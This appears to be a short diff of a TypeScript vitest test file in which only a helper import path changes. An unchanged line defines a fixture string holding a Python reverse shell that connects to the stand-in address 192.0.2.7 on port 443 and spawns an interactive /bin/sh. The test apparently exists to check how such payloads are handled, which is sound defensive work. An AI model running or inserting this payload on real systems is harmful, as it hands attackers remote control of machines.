@@ -1,5 +1,5 @@
 import { describe, expect, test } from "vitest";
-import { follow, kinds, script } from "./support.test-support.ts";
+import { follow, kinds, script } from "../support.test-support.ts";
 
 const SHELL =
   "import socket,os\ns=socket.socket();s.connect(('192.0.2.7',443));os.dup2(s.fileno(),0)\nos.system('/bin/sh -i')\n";
